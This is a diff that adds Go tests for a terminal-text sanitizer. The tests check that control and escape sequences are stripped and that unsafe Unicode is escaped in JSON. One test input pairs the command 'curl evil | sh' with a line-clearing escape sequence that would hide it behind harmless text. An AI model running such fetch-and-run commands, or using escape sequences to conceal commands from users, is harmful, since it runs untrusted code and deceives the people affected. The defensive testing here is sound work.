@@ -1,6 +1,9 @@
 package termtext
 
 import (
+	"bytes"
+	"encoding/json"
+	"maps"
 	"strings"
 	"testing"
 	"unicode/utf8"
@@ -158,4 +161,47 @@ func FuzzQuoteAndStrip(f *testing.F) {
 			t.Fatalf("StripString(%q) = %q", s, st)
 		}
 	})
+}
+
+func TestStripCSI(t *testing.T) {
+	for in, want := range map[string]string{
+		"plain": "plain",
+		"\x1b[31mred\x1b[0m and \u009b1mbold\u009bm": "red and bold",
+		"curl evil | sh\x1b[2K\rFix":                 "curl evil | sh\rFix", // the CR is Quote's to show
+		"\x1b]0;title\x07 kept":                      "\x1b]0;title\x07 kept",
+		"broken \x1b[12":                             "broken \x1b[12",
+		"\x1b[8mconcealed\x1b[28m":                   "concealed",
+		"half \x1b[1;\x1bx":                          "half \x1b[1;\x1bx",
+	} {
+		if got := StripCSI(in); got != want {
+			t.Errorf("StripCSI(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+func TestEscapeJSON(t *testing.T) {
+	v := map[string]string{"goal": "Fix\u202e\x7f\u009b2K\u0085 it\U000e0041 naïve \u200d \x1b[2K\n", "plain": "ascii"}
+	raw, err := json.MarshalIndent(v, "", "  ")
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := EscapeJSON(raw)
+	for _, r := range string(got) {
+		if r != '\n' && Unsafe(r) {
+			t.Fatalf("EscapeJSON left %U in %s", r, got)
+		}
+	}
+	var back map[string]string
+	if err := json.Unmarshal(got, &back); err != nil || !maps.Equal(back, v) {
+		t.Fatalf("EscapeJSON(%s) = %s: decodes to %q (%v), want %q", raw, got, back, err, v)
+	}
+	if !bytes.Contains(got, []byte(`Fix\u202e\u007f\u009b2K\u0085 it\udb40\udc41 naïve `+"\u200d")) {
+		t.Errorf("EscapeJSON = %s", got)
+	}
+	if plain := []byte(`{"a":"b"}`); &EscapeJSON(plain)[0] != &plain[0] {
+		t.Error("EscapeJSON copied text with nothing to escape")
+	}
+	if got := EscapeJSON([]byte("\"a\xffb\"")); string(got) != `"a\ufffdb"` {
+		t.Errorf("EscapeJSON of invalid UTF-8 = %q", got)
+	}
 }
